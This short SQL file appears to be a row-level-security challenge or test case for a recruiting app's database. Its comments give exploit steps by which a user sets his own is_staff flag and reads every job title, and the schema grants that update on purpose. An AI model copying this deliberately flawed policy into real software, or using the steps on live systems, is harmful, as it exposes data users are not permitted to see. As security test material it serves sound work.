-- A user declares himself staff and reads all jobs: the flag is in the profile that he may change.
-- about: jobs, profiles
-- as: hf_recruiting_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-0000-4000-8000-000000000001"}';
-- exploit: UPDATE hire.profiles SET is_staff = true;
-- exploit: SELECT title FROM hire.jobs;
-- shows: Job-secret
ALTER TABLE hire.profiles ADD COLUMN is_staff boolean NOT NULL DEFAULT false;
GRANT UPDATE ON hire.profiles TO hf_recruiting_app;
CREATE POLICY staff ON hire.jobs FOR SELECT
  USING (EXISTS (SELECT FROM hire.profiles p WHERE p.user_id = hire.uid() AND p.is_staff));
